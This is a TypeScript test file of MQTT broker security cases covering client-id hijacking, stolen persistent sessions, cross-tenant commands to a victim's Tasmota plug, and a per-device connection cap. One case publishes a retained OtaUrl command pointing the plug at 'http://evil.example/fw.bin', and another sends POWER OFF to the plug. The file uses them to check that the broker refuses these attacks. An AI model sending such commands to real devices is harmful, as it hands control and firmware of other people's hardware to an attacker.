import mqtt from 'mqtt'
import { expect } from 'vitest'
import { openRaw, openRawDevice } from '../../helpers/raw-connection.ts'
import { connectPacket } from '../../helpers/raw-mqtt.ts'
import { publish } from './bytes.ts'

// Client ids and connection counts (issue 12 items 3 and 4): cases that need several
// connections at once, so each is a small script rather than a row of bytes.

export interface SessionContext {
  port: number
  hostile: { id: string, token: string }
  victim: { id: string, token: string }
  /** Another member's Tasmota plug (topic `hx-victim-plug`), and its member. */
  plug: { id: string, token: string, member: string, topic: string }
  /** A device nobody else uses, for the connection cap. */
  crowded: { id: string, token: string }
  maxConnectionsPerDevice: number
}

export interface SessionCase { id: string, title: string, pending?: string, kills?: true, run: (ctx: SessionContext) => Promise<void> }

/**
 * What the victim's plug receives on its command topics from subscribing until a marker: a
 * refusal of its own (an invalid metric name) comes back on its errors topic on the same
 * connection, after anything the broker had already queued for it.
 */
async function commandsReceived (ctx: SessionContext, whileSubscribed: () => Promise<void>): Promise<string[]> {
  const { plug } = ctx
  const client = await mqtt.connectAsync(`mqtt://127.0.0.1:${ctx.port}`, { clientId: `${plug.id}-suite`, username: plug.id, password: plug.token, reconnectPeriod: 0 })
  try {
    const received: string[] = []
    const errors = `tsudoi/${plug.member}/${plug.id}/errors`
    let marked: () => void = () => {}
    const marker = new Promise<void>((resolve) => { marked = resolve })
    client.on('message', (topic, payload) => {
      if (topic === errors && payload.toString().includes('~plug-mark')) marked()
      else if (topic !== errors) received.push(`${topic} ${payload.toString()}`)
    })
    await client.subscribeAsync([`cmnd/${plug.topic}/#`, errors], { qos: 1 })
    await whileSubscribed()
    await client.publishAsync(`tsudoi/${plug.member}/${plug.id}/telemetry`, '{"~plug-mark":1}', { qos: 1 })
    await marker
    return received
  } finally {
    await client.endAsync(true)
  }
}

export const sessionCases: SessionCase[] = [
  {
    id: 'session-01',
    title: 'a device using another device\'s client id does not kick it off',
    run: async (ctx) => {
      const victim = await openRawDevice(ctx.port, 'hx-shared-client', ctx.victim.id, ctx.victim.token)
      const attacker = await openRaw(ctx.port)
      try {
        await attacker.write(connectPacket('hx-shared-client', ctx.hostile.id, ctx.hostile.token))
        const connack = await attacker.packet((p) => p.cmd === 'connack', 5000)
        // Refused with "identifier rejected", or accepted in a namespace of its own.
        expect([0, 2]).toContain(connack?.returnCode)
        expect(await victim.alive(5000)).toBe(true)
      } finally {
        victim.destroy()
        attacker.destroy()
      }
    }
  },
  {
    id: 'session-02',
    title: 'a device using another device\'s client id never gets its persistent session',
    run: async (ctx) => {
      const victim = await openRaw(ctx.port)
      await victim.write(connectPacket('hx-persistent', ctx.victim.id, ctx.victim.token, false))
      expect((await victim.packet((p) => p.cmd === 'connack', 5000))?.returnCode).toBe(0)
      victim.destroy()
      await victim.closedWithin(5000)
      const attacker = await openRaw(ctx.port)
      try {
        await attacker.write(connectPacket('hx-persistent', ctx.hostile.id, ctx.hostile.token, false))
        const connack = await attacker.packet((p) => p.cmd === 'connack', 5000)
        expect([0, 2]).toContain(connack?.returnCode)
        if (connack?.returnCode === 0) expect(connack.sessionPresent).toBe(false)
      } finally {
        attacker.destroy()
      }
    }
  },
  {
    id: 'session-04',
    title: 'a command published to another member\'s plug never reaches it',
    run: async (ctx) => {
      const received = await commandsReceived(ctx, async () => {
        const attacker = await openRawDevice(ctx.port, 'hx-commander', ctx.hostile.id, ctx.hostile.token)
        try {
          await attacker.write(publish(`cmnd/${ctx.plug.topic}/POWER`, 'OFF', 0x02, 4))
          expect(await attacker.packet((p) => p.cmd === 'puback' && p.messageId === 4, 5000)).toBeDefined()
        } finally {
          attacker.destroy()
        }
      })
      expect(received).toEqual([])
    }
  },
  {
    id: 'session-05',
    title: 'a retained command for another member\'s plug is not replayed when it subscribes',
    run: async (ctx) => {
      const attacker = await openRawDevice(ctx.port, 'hx-retainer', ctx.hostile.id, ctx.hostile.token)
      try {
        await attacker.write(publish(`cmnd/${ctx.plug.topic}/OtaUrl`, 'http://evil.example/fw.bin', 0x03, 5))
        expect(await attacker.packet((p) => p.cmd === 'puback' && p.messageId === 5, 5000)).toBeDefined()
      } finally {
        attacker.destroy()
      }
      expect(await commandsReceived(ctx, async () => {})).toEqual([])
    }
  },
  {
    id: 'session-03',
    title: 'one device past its connection cap is refused, its open connections kept',
    run: async (ctx) => {
      const open = []
      try {
        for (let i = 0; i < ctx.maxConnectionsPerDevice; i++) open.push(await openRawDevice(ctx.port, `hx-crowd-${i}`, ctx.crowded.id, ctx.crowded.token))
        const extra = await openRaw(ctx.port)
        open.push(extra)
        await extra.write(connectPacket('hx-crowd-extra', ctx.crowded.id, ctx.crowded.token))
        const connack = await extra.packet((p) => p.cmd === 'connack', 5000)
        expect(connack?.returnCode).not.toBe(0)
        expect(connack).toBeDefined()
        for (const connection of open.slice(0, -1)) expect(await connection.alive(5000)).toBe(true)
      } finally {
        for (const connection of open) connection.destroy()
      }
    }
  }
]
